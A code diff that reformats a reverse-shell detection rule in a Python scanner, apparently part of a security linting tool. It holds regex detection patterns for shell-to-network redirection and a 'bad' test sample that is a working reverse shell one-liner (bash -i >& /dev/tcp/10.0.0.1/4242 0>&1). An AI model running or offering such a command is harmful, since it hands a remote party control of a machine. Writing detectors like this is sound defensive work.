@@ -17,7 +17,13 @@ RULE = ScannerRule(
         Pattern(rf"{NET}\S+.*{SH}\s+-[a-z]*i\b"),
         Pattern(rf"{SH}\s+(?:[\d<>&|-]+\s*){{0,6}}[<>]&?\s*{NET}"),
         Pattern(rf"\bexec\s+\d+<>\s*{NET}.*(?:\bwhile\b.*\bread\b|{SH}\s*[<>\d])"),
-        Nearby((rf"\bexec\s+\d*<>\s*{NET}", rf"(?:<&\s*\d.*\bwhile\b.*\bread\b|\bread\b.*<&\s*\d|{SH}\s+(?:-i\s+)?[\d<>&]*<&\s*\d)"), within=10),
+        Nearby(
+            (
+                rf"\bexec\s+\d*<>\s*{NET}",
+                rf"(?:<&\s*\d.*\bwhile\b.*\bread\b|\bread\b.*<&\s*\d|{SH}\s+(?:-i\s+)?[\d<>&]*<&\s*\d)",
+            ),
+            within=10,
+        ),
     ),
     bad=(
         "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
